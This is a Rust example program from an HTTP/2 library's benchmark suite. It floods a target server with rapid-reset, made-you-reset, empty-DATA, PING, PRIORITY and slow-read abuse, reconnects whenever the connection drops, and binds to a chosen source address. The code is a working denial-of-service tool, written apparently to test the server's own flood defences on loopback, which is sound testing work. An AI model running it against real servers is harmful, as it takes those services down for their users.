//! A flood attacker for `bench/attack.sh`: connects to an HTTP/2 server and floods it with one
//! kind of abuse, reconnecting whenever the server ends the connection, for a number of
//! seconds. Prints the connections it needed and the frames it wrote.
//!
//! `cargo run --release -p h2kit --example attacker -- KIND HOST:PORT SECONDS [SOURCE_IP]`
//! KIND: rapid-reset | made-you-reset | empty-data | ping-flood | priority | slow-read
//!
//! SOURCE_IP (default 127.0.0.2) is the address the attacker connects from, so that on
//! loopback it is a different source from the legitimate client on 127.0.0.1, as it would be
//! on a network (the server's penalty box holds floods against their source).

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use bytes::{Bytes, BytesMut};
use h2kit::proto::frame::{
    Data, Frame, Headers, Ping, Priority, PrioritySpec, RstStream, Settings, StreamId, WindowUpdate,
};
use h2kit::proto::ErrorCode;

/// GET / with :authority "a".
const GET: [u8; 6] = [0x82, 0x86, 0x84, 0x01, 0x01, b'a'];

fn get(id: u32, end_stream: bool) -> Frame {
    Frame::Headers(Headers {
        stream_id: StreamId(id),
        block: Bytes::from_static(&GET),
        end_stream,
        end_headers: true,
        priority: None,
        pad: None,
    })
}

fn settings() -> Frame {
    Frame::Settings(Settings::default())
}

/// The frames of one round of the attack, for streams from `id`, appended to `out`.
fn round(kind: &str, id: u32, out: &mut BytesMut) {
    let frames = match kind {
        "rapid-reset" => vec![
            get(id, true),
            Frame::RstStream(RstStream {
                stream_id: StreamId(id),
                code: ErrorCode::CANCEL,
            }),
        ],
        "made-you-reset" => vec![
            get(id, false),
            Frame::WindowUpdate(WindowUpdate {
                stream_id: StreamId(id),
                increment: 0,
            }),
        ],
        "empty-data" => {
            let empty = Frame::Data(Data {
                stream_id: StreamId(1),
                data: Bytes::new(),
                end_stream: false,
                pad: None,
            });
            if id == 1 {
                vec![get(1, false), empty]
            } else {
                vec![empty]
            }
        }
        "ping-flood" => vec![
            Frame::Ping(Ping {
                ack: false,
                payload: u64::from(id).to_be_bytes(),
            }),
            settings(),
        ],
        "priority" => vec![Frame::Priority(Priority {
            stream_id: StreamId(id),
            spec: PrioritySpec {
                exclusive: false,
                dependency: StreamId(id + 2),
                weight: 15,
            },
        })],
        // A new stream now and then; its responses are never acknowledged.
        "slow-read" if id % 64 == 1 => vec![get(id, true)],
        "slow-read" => Vec::new(),
        other => panic!("unknown attack {other}"),
    };
    for f in frames {
        f.encode(out);
    }
}

fn main() {
    let mut args = std::env::args().skip(1);
    let kind = args.next().expect("KIND");
    let addr = args.next().expect("HOST:PORT");
    let secs: u64 = args.next().map_or(5, |s| s.parse().unwrap());
    let source: std::net::IpAddr = args
        .next()
        .map_or("127.0.0.2".parse().unwrap(), |s| s.parse().unwrap());
    let target: std::net::SocketAddr = addr.parse().expect("HOST:PORT as an IP address");
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_io()
        .build()
        .unwrap();
    // Connects from `source` (std's TcpStream cannot bind before connecting).
    let connect = || -> std::io::Result<TcpStream> {
        rt.block_on(async {
            let socket = tokio::net::TcpSocket::new_v4()?;
            socket.bind(std::net::SocketAddr::new(source, 0))?;
            let s = socket.connect(target).await?.into_std()?;
            s.set_nonblocking(false)?;
            Ok(s)
        })
    };
    let end = Instant::now() + Duration::from_secs(secs);
    let (mut connections, mut frames) = (0u64, 0u64);
    while Instant::now() < end {
        let Ok(mut s) = connect() else {
            std::thread::sleep(Duration::from_millis(10));
            continue;
        };
        connections += 1;
        let _ = s.set_write_timeout(Some(Duration::from_millis(500)));
        let mut hello = BytesMut::from(&b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"[..]);
        settings().encode(&mut hello);
        if s.write_all(&hello).is_err() {
            continue;
        }
        // Drain (and drop) what the server sends on another thread, except for the slow
        // reader, who reads nothing; the drain ends when the server closes.
        if kind != "slow-read" && kind != "ping-flood" {
            let mut r = s.try_clone().unwrap();
            std::thread::spawn(move || {
                let mut buf = [0u8; 65536];
                while matches!(r.read(&mut buf), Ok(n) if n > 0) {}
            });
        }
        let mut id = 1u32;
        while Instant::now() < end {
            let mut batch = BytesMut::new();
            for _ in 0..64 {
                round(&kind, id, &mut batch);
                id = id.wrapping_add(2).max(1);
                frames += 2;
            }
            if s.write_all(&batch).is_err() {
                break;
            }
            if kind == "slow-read" {
                std::thread::sleep(Duration::from_millis(10));
            }
        }
    }
    println!("{kind}: {connections} connections, {frames} frames written");
}
